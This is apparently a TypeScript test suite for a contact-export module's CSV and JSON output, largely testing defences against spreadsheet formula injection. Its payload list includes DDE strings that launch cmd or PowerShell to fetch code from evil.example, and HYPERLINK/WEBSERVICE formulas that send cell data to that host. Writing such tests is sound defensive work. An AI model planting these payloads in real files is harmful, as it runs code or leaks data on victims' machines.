import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Contact } from '../../../src/duplicates/contact';
import type { Decision } from '../../../src/duplicates/decision';
import { type ExportedRecord, toCsv, toJson } from '../../../src/duplicates/export';
import type { Evidence } from '../../../src/duplicates/reasons';
import { contact } from '../../builders';

const morning = Date.parse('2024-02-29T08:30:00.000Z');
const noon = Date.parse('2024-02-29T12:00:00.000Z');
const impossibleTimes = [Number.NaN, Number.POSITIVE_INFINITY, 8.64e15 + 1, -8.64e15 - 1];

/** Every text field of a contact, so that a new one cannot be forgotten here. */
const noText = ['createdTime', 'modifiedTime', 'crmRecord'];
const textFields = Object.entries(contact())
  .filter(([name, value]) => (value === null || typeof value === 'string') && !noText.includes(name))
  .map(([name]) => name);
/** Every column that holds text which somebody wrote. */
const textColumns = [
  'letter',
  ...textFields,
  ...['crmRecordId', 'crmRecordType', 'decidedBy', 'note', 'cf: cf_region'],
];
const flags = ['isPortalUser', 'isSpam', 'isAnonymous', 'isDeleted'] as const;

const evidence: Evidence = {
  strength: 'likely',
  reasonsFor: [
    { kind: 'sameEmail', address: 'robin@ash.example' },
    { kind: 'sameName', written: 'otherwise' },
  ],
  reasonsAgainst: [{ kind: 'sharedByMany', field: 'phone', count: 7 }],
};

const kim = { id: '450000000000056001', name: 'Kim Vale' };

function investigate(note: string, known: Partial<Pick<Decision, 'by' | 'at'>> = {}): Decision {
  const fingerprints = { '450000000000123001': { email: 'fp0email' } };
  return { kind: 'investigate', note, by: kim, at: noon, fingerprints, ...known };
}

function record(known: Partial<ExportedRecord> = {}): ExportedRecord {
  return {
    letter: 'A',
    contact: contact(),
    evidence: null,
    decisions: [],
    isSuggestedPrimary: false,
    ...known,
  };
}

const recordOf = (known: Partial<Contact>) => record({ contact: contact(known) });
const custom = (customFields: Contact['customFields']) => recordOf({ customFields });

/** A record with that text in every text column. */
function filled(text: string | null): ExportedRecord {
  return record({
    letter: text ?? '',
    contact: contact({
      ...Object.fromEntries(textFields.map((name) => [name, text])),
      crmRecord: text === null ? null : { id: text, kind: text },
      customFields: { cf_region: text },
    }),
    decisions: [investigate(text ?? '', { by: text === null ? null : { id: '1', name: text } })],
  });
}

/** The text with an apostrophe before each sign that could come to stand at the beginning of a cell of its own. */
function withApostrophes(text: string): string {
  return text.replace(/([;\t\r\n][\s\p{Cc}\p{Cf}\p{DI}"']*)(?=[=+\-@|\uff1d\uff0b\uff0d\uff20])/gu, "$1'");
}

/** The rows of such a file by the letter of RFC 4180, read by nobody's library; whatever else it is, it refuses. */
function readStrictly(file: string, separators = ','): string[][] {
  const cell = new RegExp(`("[^"]*(?:""[^"]*)*"|[^"\\r\\n${separators}]*)([${separators}]|\\r\\n|$)`, 'y');
  const rows: string[][] = [[]];
  for (;;) {
    const [, text, end] = cell.exec(file) ?? [];
    if (text === undefined) throw new Error('this is not RFC 4180');
    rows.at(-1)?.push(text.startsWith('"') ? text.slice(1, -1).replaceAll('""', '"') : text);
    if (end === '') return rows;
    if (end === '\r\n') rows.push([]);
  }
}

/** All cells of the file, the header's first; two readers have to agree on them. */
function cellsOf(file: string): string[][] {
  expect(file.charCodeAt(0)).toBe(0xfeff);
  const rows = readStrictly(file.slice(1));
  const { data, errors } = Papa.parse<string[]>(file, { delimiter: ',' });
  expect(errors).toEqual([]);
  expect(data).toEqual(rows);
  return rows;
}

/** What stands under each header, row after row. */
function rowsOf(records: readonly ExportedRecord[]): Record<string, string>[] {
  const [header = [], ...rows] = cellsOf(toCsv(records));
  expect(new Set(header).size).toBe(header.length);
  return rows.map((row) => {
    expect(row).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
  });
}

function rowOf(one: ExportedRecord): Record<string, string> {
  const [row = {}, ...others] = rowsOf([one]);
  expect(others).toEqual([]);
  return row;
}

const columns = (row: Readonly<Record<string, string>>, names: readonly string[]) =>
  Object.fromEntries(names.map((name) => [name, row[name]]));
const everyColumn = (text: string) => Object.fromEntries(textColumns.map((name) => [name, text]));
const cellFor = (value: string) => rowOf(custom({ cf_region: value }))['cf: cf_region'];

/** Whether a spreadsheet may take it for a formula, however generous it is about what stands before the sign. */
function mayBeFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  const seen = cell.replace(/^[\s\p{Z}\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}"']+/u, '');
  return /^[=+\-@|＝＋－＠]/u.test(seen);
}

const signs = ['=', '+', '-', '@', '|', '＝', '＋', '－', '＠'];

/** What may stand before a sign without being seen, or without counting. */
const leads: readonly (readonly [name: string, lead: string])[] = [
  ['a blank', ' '],
  ['blanks', '   '],
  ['a no-break space', '\u00a0'],
  ['an ideographic space', '\u3000'],
  ['a tab', '\t'],
  ['a line feed', '\n'],
  ['a carriage return', '\r'],
  ['a line break', '\r\n'],
  ['a vertical tab', '\v'],
  ['a line separator', '\u2028'],
  ['a next-line control', '\u0085'],
  ['a NUL', '\0'],
  ['a control character', '\u0001'],
  ['a zero-width space', '\u200b'],
  ['a zero-width joiner', '\u200d'],
  ['a word joiner', '\u2060'],
  ['a byte order mark', '\ufeff'],
  ['a soft hyphen', '\u00ad'],
  ['a left-to-right mark', '\u200e'],
  ['a right-to-left override', '\u202e'],
  ['an isolate', '\u2067'],
  ['a combining grapheme joiner', '\u034f'],
  ['a variation selector', '\ufe0f'],
  ['a Hangul filler', '\u3164'],
  ['a tag character', '\u{e0041}'],
  ['an annotation anchor', '\ufff9'],
  ['a double quote', '"'],
  ['an apostrophe', "'"],
  ['all sorts of them', ' "\t\u200e\'\r\n\u200b "'],
];

/** Payloads that opened programs or sent data elsewhere, in one spreadsheet or the other. */
const payloads = [
  "=cmd|'/C calc'!A0",
  "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "|cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\'!""',
  '=HYPERLINK("https://evil.example/?"&A1&B1,"Open the invoice")',
  '=IMPORTXML(CONCAT("https://evil.example/?",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTDATA("https://evil.example/")',
  '=WEBSERVICE("https://evil.example/"&A2)',
  '=1+1',
  '=1+2\'" ;,=1+2',
  '=1+2";=1+2',
  '"=1+1"',
  '＝1+1',
  '＠SUM(1)',
  '\tAsh',
  '\rAsh',
  '\nAsh',
  '\0Ash',
  "%0A=cmd|'/C calc'!A0",
  '%0D%0A=1+1',
  '%09-3+3',
];

const quoted = (text: string) => JSON.stringify(text);
const named = (texts: readonly string[]) => texts.map((text) => [quoted(text), text] as const);

describe('the text columns', () => {
  it('are there for every text field of a contact', () => {
    expect(textFields.length).toBeGreaterThan(20);
    expect(Object.keys(rowOf(filled('Ash')))).toEqual(expect.arrayContaining(textColumns));
  });
});

describe('toCsv', () => {
  it('begins with a byte order mark, and has no other', () => {
    const file = toCsv([filled('Ash')]);
    expect(file.startsWith('\ufeff')).toBe(true);
    expect(file.lastIndexOf('\ufeff')).toBe(0);
  });

  it('names its columns after the fields, custom ones behind all others', () => {
    const [header] = cellsOf(toCsv([custom({ cf_region: 'North', 'Plan B': null })]));
    expect(header).toEqual([
      ...['letter', 'id', 'firstName', 'lastName', 'title', 'email', 'secondaryEmail', 'phone', 'mobile'],
      ...['accountId', 'accountName', 'type', 'street', 'city', 'state', 'zip', 'country'],
      ...['language', 'facebook', 'twitter', 'description', 'crmRecordId', 'crmRecordType'],
      ...['isPortalUser', 'isSpam', 'isAnonymous', 'isDeleted', 'ownerId', 'ownerName'],
      ...['createdTime', 'modifiedTime', 'webUrl', 'strength', 'reasonsFor', 'reasonsAgainst'],
      ...['suggestedPrimary', 'decision', 'decidedBy', 'decidedAt', 'note'],
      ...['cf: cf_region', 'cf: Plan B'],
    ]);
  });

  it('has a row for each record, in their order, each ended by CRLF but for the last', () => {
    const records = ['A', 'B', 'C'].map((letter) => record({ letter, contact: contact({ title: letter }) }));
    const file = toCsv(records);
    expect(file.split('\r\n')).toHaveLength(4);
    expect(file.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(rowsOf(records).map((row) => [row.letter, row.title])).toEqual([
      ['A', 'A'],
      ['B', 'B'],
      ['C', 'C'],
    ]);
  });

  it('has a header and no cell beneath it where there are no records', () => {
    const [header = [], ...rows] = cellsOf(toCsv([]));
    expect(header.slice(0, 2)).toEqual(['letter', 'id']);
    expect(rows.flat().filter(Boolean)).toEqual([]);
  });

  it('does not change the records', () => {
    const one = filled('=1+1');
    const before = structuredClone(one);
    toCsv([one]);
    toJson([one], null, noon);
    expect(one).toEqual(before);
  });

  it.each([
    ['a word', 'Ash'],
    ['quotes', 'Robin "Bob" Ash'],
    ['nothing but a quote', '"'],
    ["somebody's apostrophe", "O'Brien"],
    ['an apostrophe in front', "'t Hart"],
    ['commas', 'Ash, Birch, and Elm'],
    ['semicolons', 'North; South;'],
    ['tabs', 'North\tSouth'],
    ['line feeds', 'High Street 1\nLeeds\n'],
    ['line breaks', 'High Street 1\r\nLeeds'],
    ['carriage returns', 'High Street 1\rLeeds'],
    ['blanks at both ends', '  Ash  '],
    ['emoji', '👩‍👩‍👧 Ash 🇬🇧'],
    ['Hebrew and Arabic', 'שלום, العالم'],
    ['bidi marks within', 'Ash \u202eBirch\u202c'],
    ['Chinese', '木, 林'],
    ['combining marks', 'Zoe\u0308'],
    ['control characters', 'Ash\u0001\u0007\u001b\u007f\u0085Birch'],
    ['line separators', 'Ash\u2028Birch\u2029Elm'],
    ['a byte order mark within', 'Ash\ufeffBirch'],
    ['a row of CSV', '"a","b"\r\n"c","d"'],
    ['much text', `Ash ${'x"y, '.repeat(10_000)}`],
  ])('keeps %s in every column', (_, text) => {
    expect(columns(rowOf(filled(text)), textColumns)).toEqual(everyColumn(text));
  });

  it('keeps rows and columns apart whatever their cells hold', () => {
    const texts = ['"', ',', '\r\n', '"\r\n"', '","', 'Ash'];
    expect(rowsOf(texts.map(filled)).map((row) => row.description?.replace(/^'/, ''))).toEqual(texts);
  });

  it('leaves what is empty or not told empty', () => {
    for (const empty of ['', null]) {
      const row = rowOf(filled(empty));
      expect(columns(row, textColumns)).toEqual(everyColumn(''));
    }
    const unknown = ['createdTime', 'modifiedTime', 'strength', 'reasonsFor', 'reasonsAgainst'];
    const undecided = ['decision', 'decidedBy', 'decidedAt', 'note'];
    const row = rowOf(record());
    for (const name of [...unknown, ...undecided]) expect(row[name]).toBe('');
    expect(rowOf(recordOf({ crmRecord: { id: '78001', kind: null } }))).toMatchObject({
      crmRecordId: '78001',
      crmRecordType: '',
    });
  });

  it.each(flags)('says of %s whether it is so', (flag) => {
    const others = columns(
      rowOf(record()),
      flags.filter((name) => name !== flag),
    );
    expect(Object.values(others)).toEqual(['false', 'false', 'false']);
    expect(rowOf(recordOf({ [flag]: false }))[flag]).toBe('false');
    expect(rowOf(recordOf({ [flag]: true }))).toMatchObject({ ...others, [flag]: 'true' });
  });

  it('says which record is the suggested primary', () => {
    const rows = rowsOf([record({ isSuggestedPrimary: true }), record()]);
    expect(rows.map((row) => row.suggestedPrimary)).toEqual(['true', 'false']);
  });

  it('names the strength and the reasons', () => {
    expect(rowOf(record({ evidence }))).toMatchObject({
      strength: 'likely',
      reasonsFor: 'sameEmail; sameName',
      reasonsAgainst: 'sharedByMany',
    });
  });

  describe('tells of decisions', () => {
    const earlier: Decision = { kind: 'separate', by: kim, at: morning, fingerprints: {} };

    it('the latest alone, with who and when', () => {
      const decisions = [investigate('Ask her', { by: { id: '1', name: 'Bo Elm' } }), earlier];
      expect(rowOf(record({ decisions }))).toMatchObject({
        decision: 'investigate',
        decidedBy: 'Bo Elm',
        decidedAt: '2024-02-29T12:00:00.000Z',
        note: 'Ask her',
      });
    });

    it('no note where there is none, be it that an earlier one has one', () => {
      expect(rowOf(record({ decisions: [earlier, investigate('Ask her')] }))).toMatchObject({
        decision: 'separate',
        note: '',
      });
    });

    it('nobody where Desk did not tell who, and no time that is impossible', () => {
      const decisions = [investigate('', { by: null, at: Number.NaN })];
      expect(rowOf(record({ decisions }))).toMatchObject({
        decision: 'investigate',
        decidedBy: '',
        decidedAt: '',
      });
    });

    it('no fingerprints', () => {
      expect(toCsv([record({ decisions: [investigate('Ask her')] })])).not.toContain('fp0email');
    });
  });

  describe('writes times', () => {
    it('as ISO, in UTC', () => {
      expect(rowOf(recordOf({ createdTime: morning, modifiedTime: 0 }))).toMatchObject({
        createdTime: '2024-02-29T08:30:00.000Z',
        modifiedTime: '1970-01-01T00:00:00.000Z',
      });
    });

    it.each(impossibleTimes)('of no calendar (%d) as an empty cell', (time) => {
      expect(rowOf(recordOf({ createdTime: time, modifiedTime: time }))).toMatchObject({
        createdTime: '',
        modifiedTime: '',
      });
    });

    it('of years with a sign as text', () => {
      expect(rowOf(recordOf({ createdTime: 8.64e15, modifiedTime: -8.64e15 }))).toMatchObject({
        createdTime: "'+275760-09-13T00:00:00.000Z",
        modifiedTime: "'-271821-04-20T00:00:00.000Z",
      });
    });
  });

  describe('has custom fields', () => {
    it('of all records, in the order in which they come up, each once', () => {
      const records = [custom({ cf_a: '1' }), custom({ cf_b: '2', cf_a: '3' }), custom({})];
      expect(cellsOf(toCsv(records)).map((row) => row.slice(-2))).toEqual([
        ['cf: cf_a', 'cf: cf_b'],
        ['1', ''],
        ['3', '2'],
        ['', ''],
      ]);
    });

    it.each([
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'id',
      'letter',
      '',
      '0',
      'Region, "Plan"',
      'Two\r\nlines',
      'Größe',
      'cf: cf_a',
    ])('of any name: %j', (name) => {
      const rows = rowsOf([custom(Object.fromEntries([[name, 'North']])), custom({})]);
      expect(rows.map((row) => row[`cf: ${name}`])).toEqual(['North', '']);
      expect(rows.map((row) => row.letter)).toEqual(['A', 'A']);
    });

    it('beside fields of the same name', () => {
      expect(rowOf(recordOf({ email: 'robin@ash.example', customFields: { email: 'none' } }))).toMatchObject({
        email: 'robin@ash.example',
        'cf: email': 'none',
      });
    });
  });

  describe('lets a spreadsheet take for text', () => {
    it.each(named(payloads))('%s, in every column', (_, payload) => {
      const file = toCsv([filled(payload)]);
      expect(cellsOf(file).flat().filter(mayBeFormula)).toEqual([]);
      expect(columns(rowOf(filled(payload)), textColumns)).toEqual(
        everyColumn(`'${withApostrophes(payload)}`),
      );
    });

    it.each(named(signs))('whatever begins with %s, in every column', (_, sign) => {
      for (const text of [sign, `${sign}Ash`, `${sign} 1`, `${sign}${sign}1`]) {
        expect(columns(rowOf(filled(text)), textColumns)).toEqual(everyColumn(`'${withApostrophes(text)}`));
      }
    });

    it.each(leads)('a sign behind %s, in every column', (_, lead) => {
      for (const sign of signs) {
        const text = `${lead}${sign}1+1`;
        expect(columns(rowOf(filled(text)), textColumns)).toEqual(everyColumn(`'${withApostrophes(text)}`));
      }
    });

    it.each(named([...payloads, ...signs]))('a custom field of the name %s', (_, name) => {
      const cells = cellsOf(toCsv([custom({ [name]: 'North' }), custom({ [name]: name })]));
      expect(cells.map((row) => row.at(-1))).toEqual([
        `cf: ${withApostrophes(name)}`,
        'North',
        `'${withApostrophes(name)}`,
      ]);
      expect(cells.flat().filter(mayBeFormula)).toEqual([]);
    });

    it.each(leads)('a custom field whose name has a sign behind %s', (_, lead) => {
      for (const sign of signs) {
        const cells = cellsOf(toCsv([custom({ [`${lead}${sign}1+1`]: 'North' })]));
        expect(cells.flat().filter(mayBeFormula)).toEqual([]);
        expect(cells[0]?.at(-1)).toBe(withApostrophes(`cf: ${lead}${sign}1+1`));
      }
    });

    // LibreOffice's import has all three separators ticked, unless told otherwise.
    it.each(
      named(['Ash;=1+1', 'Ash;=1+1;', 'Ash\t=1+1', 'Ash\t=1+1\t', 'Ash,=1+1', 'Ash";=1+1', 'Ash"\r\n=1+1']),
    )('%s, also where it splits at semicolons and tabs', (_, text) => {
      const file = toCsv([filled(text), custom({ [text]: 'North' })]);
      expect(readStrictly(file.slice(1), ',;\t')).toEqual(cellsOf(file));
    });

    it.each(
      named([
        ...['450000000000123001', '1234567890123456', '4111111111111111'],
        ...['0123', '01', '00', '02079460123', '01069', '  0123  '],
        ...['1-2', '3/4', '1.2', '2024-02', '2024-02-29', '29.2.2024', '02/29/24', '12/2024'],
        ...['12E5', '1e5', '0e0', '1.5E3', '12E+5', '12e-5', '450E000000123'],
        ...['-1', '+44 20 7946 0123', '-', '+', '@ash', '- none -'],
      ]),
    )('%s, in every column', (_, text) => {
      expect(columns(rowOf(filled(text)), textColumns)).toEqual(everyColumn(`'${withApostrophes(text)}`));
    });
  });

  it.each(
    named([
      ...['Ash', 'Robin Ash', "O'Brien", 'Ash-Birch', 'Müller', '木', 'שלום', '👋', 'E5', 'v1-2', '1-2-3-4'],
      ...['0', '7', '42', '2024', '123456789012345', '3.14159', '42 %', 'LS1 1AA', '1 High Street'],
      ...['robin@ash.example', 'https://desk.zoho.eu/agent?a=1', 'a=b', 'a|b', 'a+b', '020 7946 0123'],
      ...['(020) 7946', '%', '%3D1', '#NAME?', '*', 'true', '2024-02-29T08:30:00.000Z', 'Ash\t', 'Ash\n1'],
    ]),
  )('leaves %s as it is', (_, text) => {
    expect(cellFor(text)).toBe(text);
  });

  describe('of any records', () => {
    const invisible = fc.string({ unit: fc.constantFrom(...leads.map(([, lead]) => lead)), maxLength: 4 });
    const anyText = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: 'grapheme' }),
      fc.tuple(invisible, fc.constantFrom(...signs, ...payloads), fc.string()).map((parts) => parts.join('')),
      fc.string({ unit: fc.constantFrom(...',;\t\r\n"\' =+-@|'), maxLength: 6 }),
      fc.string({ unit: fc.constantFrom(...'0129-/.eE +'), maxLength: 8 }),
    );
    const maybe = fc.option(anyText, { freq: 10 });
    const anyRecord = fc
      .record({
        letter: anyText,
        fields: fc.record(Object.fromEntries(textFields.map((name) => [name, maybe]))),
        crmRecord: fc.option(fc.record({ id: anyText, kind: maybe })),
        customFields: fc.dictionary(anyText, maybe, { maxKeys: 4 }),
        times: fc.tuple(fc.double(), fc.double()),
        by: fc.option(fc.record({ id: anyText, name: anyText })),
        note: anyText,
      })
      .map(({ letter, fields, crmRecord, customFields, times: [createdTime, modifiedTime], by, note }) =>
        record({
          letter,
          contact: contact({ ...fields, crmRecord, customFields, createdTime, modifiedTime }),
          decisions: [investigate(note, { by })],
        }),
      );
    /** An apostrophe that was put before a sign further inside. */
    const addedInside = /([;\t\r\n][\s\p{Cc}\p{Cf}\p{DI}"']*)'(?=[=+\-@|\uff1d\uff0b\uff0d\uff20])/gu;
    const anyRecords = fc.array(anyRecord, { minLength: 1, maxLength: 3 });

    /** What the record's text columns and custom fields are to say, apostrophes aside. */
    function textsOf({ letter, contact: one, decisions: [latest] }: ExportedRecord): [string, string][] {
      const fields = Object.entries(one).filter(([name]) => textFields.includes(name));
      const told: readonly (readonly [string, unknown])[] = [
        ['letter', letter],
        ...fields,
        ['crmRecordId', one.crmRecord?.id],
        ['crmRecordType', one.crmRecord?.kind],
        ['decidedBy', latest?.by?.name],
        ['note', latest?.kind === 'investigate' ? latest.note : null],
        ...Object.entries(one.customFields).map(([name, value]) => [`cf: ${name}`, value] as const),
      ];
      return told.map(([name, text]) => [name, String(text ?? '')]);
    }

    it('no cell can be taken for a formula, the header included', () => {
      fc.assert(
        fc.property(anyRecords, (records) => {
          expect(cellsOf(toCsv(records)).flat().filter(mayBeFormula)).toEqual([]);
        }),
      );
    });

    it('every cell gives the text back, once an apostrophe that was added is taken away', () => {
      fc.assert(
        fc.property(anyRecords, (records) => {
          const rows = rowsOf(records);
          expect(rows).toHaveLength(records.length);
          for (const [index, one] of records.entries()) {
            for (const [name, text] of textsOf(one)) {
              const cell = rows[index]?.[name] ?? rows[index]?.[withApostrophes(name)] ?? '';
              expect([text, `'${text}`]).toContain(cell.replace(addedInside, '$1'));
            }
          }
        }),
      );
    });

    it('no part can be taken for a formula where lines are split at semicolons, quotes or not', () => {
      fc.assert(
        fc.property(anyRecords, (records) => {
          const parts = toCsv(records)
            .slice(1)
            .split(/[;\t\r\n]/);
          expect(
            parts.map((part) => part.replace(/^[\s\p{Cc}\p{Cf}\p{DI}"]*/u, '')).filter(mayBeFormula),
          ).toEqual([]);
        }),
      );
    });

    it('JSON gives every text back as it is', () => {
      fc.assert(
        fc.property(anyRecords, (records) => {
          const { records: read }: { records: ExportedRecord[] } = JSON.parse(toJson(records, null, noon));
          expect(read.map(textsOf)).toEqual(records.map(textsOf));
        }),
      );
    });
  });
});

describe('toJson', () => {
  const decisions: readonly Decision[] = [
    investigate('Ask her'),
    {
      kind: 'mergePlanned',
      primaryId: '450000000000123001',
      rounds: [['450000000000123002', '450000000000123003'], ['450000000000123004']],
      by: null,
      at: morning,
      fingerprints: { '450000000000123001': { email: 'fp0email' } },
    },
  ];
  const read = (records: readonly ExportedRecord[], exportedAt = noon) =>
    JSON.parse(toJson(records, null, exportedAt)) as {
      exportedAt: unknown;
      records: Record<string, unknown>[];
    };

  /** The keys at any depth. */
  function keysIn(value: unknown): string[] {
    if (typeof value !== 'object' || value === null) return [];
    return [...(Array.isArray(value) ? [] : Object.keys(value)), ...Object.values(value).flatMap(keysIn)];
  }

  it('tells all that is known of every record, in their order', () => {
    const { sentFields: _, ...fields } = contact({
      id: '450000000000123001',
      firstName: 'Robin',
      crmRecord: { id: '450000000000078001', kind: 'leads' },
      customFields: { cf_region: 'North', cf_plan: null },
      isSpam: true,
    });
    const first = record({
      letter: 'B',
      contact: contact({ ...fields, createdTime: morning, modifiedTime: noon }),
      evidence,
      decisions,
      isSuggestedPrimary: true,
    });
    const second = recordOf({ id: '2' });
    const { sentFields: __, ...secondFields } = second.contact;
    expect(read([first, second])).toEqual({
      version: 1,
      mergePlan: null,
      exportedAt: '2024-02-29T12:00:00.000Z',
      records: [
        {
          letter: 'B',
          contact: {
            ...fields,
            createdTime: '2024-02-29T08:30:00.000Z',
            modifiedTime: '2024-02-29T12:00:00.000Z',
          },
          evidence,
          decisions: [
            { kind: 'investigate', note: 'Ask her', by: kim, at: '2024-02-29T12:00:00.000Z' },
            {
              kind: 'mergePlanned',
              primaryId: '450000000000123001',
              rounds: [['450000000000123002', '450000000000123003'], ['450000000000123004']],
              by: null,
              at: '2024-02-29T08:30:00.000Z',
            },
          ],
          isSuggestedPrimary: true,
        },
        { letter: 'A', contact: secondFields, evidence: null, decisions: [], isSuggestedPrimary: false },
      ],
    });
  });

  it('is a list of none where there are no records', () => {
    expect(read([])).toEqual({
      version: 1,
      exportedAt: '2024-02-29T12:00:00.000Z',
      mergePlan: null,
      records: [],
    });
  });

  it('has ids as text, digit by digit', () => {
    const id = '450000000000123007';
    const file = toJson(
      [recordOf({ id, accountId: '0450000000000200001', ownerId: '99999999999999999999' })],
      null,
      noon,
    );
    expect(file).toContain(`"id": "${id}"`);
    expect(file).toContain('"accountId": "0450000000000200001"');
    expect(file).toContain('"ownerId": "99999999999999999999"');
  });

  it('leaves out fingerprints and which fields Desk sent', () => {
    const file = toJson([record({ evidence, decisions })], null, noon);
    expect(keysIn(JSON.parse(file))).not.toEqual(expect.arrayContaining(['fingerprints']));
    expect(keysIn(JSON.parse(file))).not.toEqual(expect.arrayContaining(['sentFields']));
    expect(file).not.toContain('fp0email');
  });

  it.each(impossibleTimes)('has no time of no calendar (%d)', (time) => {
    const one = record({
      contact: contact({ createdTime: time, modifiedTime: time }),
      decisions: [investigate('', { at: time })],
    });
    const { exportedAt, records } = read([one], time);
    expect(exportedAt).toBe(null);
    expect(records).toMatchObject([
      { contact: { createdTime: null, modifiedTime: null }, decisions: [{ at: null }] },
    ]);
  });

  it('has custom fields of any name', () => {
    const names = ['__proto__', 'constructor', 'toJSON', 'sentFields', 'fingerprints', 'a, b', '', '=1+1'];
    const customFields = Object.fromEntries(names.map((name) => [name, `value of ${name}`]));
    const { records }: { records: ExportedRecord[] } = JSON.parse(toJson([custom(customFields)], null, noon));
    const held = records.map((one) => Object.entries(one.contact.customFields));
    expect(held).toEqual([names.map((name) => [name, `value of ${name}`])]);
  });

  it.each(named([...payloads, '0123', '1-2', '12E5', '450000000000123001', '\u2028', '\0', '</script>']))(
    'leaves %s as it is, in every field',
    (_name, text) => {
      const { records } = read([filled(text)]);
      const { sentFields: _, ...fields } = filled(text).contact;
      expect(records).toMatchObject([
        { letter: text, contact: fields, decisions: [{ note: text, by: { name: text } }] },
      ]);
    },
  );
});
